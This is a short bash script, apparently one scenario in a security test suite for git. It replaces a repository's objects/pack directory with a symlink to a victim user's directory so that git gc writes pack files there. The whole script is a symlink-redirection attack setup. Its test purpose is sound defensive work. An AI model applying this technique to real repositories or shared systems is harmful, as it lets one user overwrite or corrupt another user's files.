#!/bin/bash -e
# objects/pack is a link to a directory of the user.
# host: gc
# harm: writes
# alone
mv "$COMMON/objects/pack" "$COMMON/pack-before"
ln -s "$VICTIM" "$COMMON/objects/pack"
cp "$COMMON"/pack-before/* "$COMMON/objects/pack/" 2>/dev/null || true
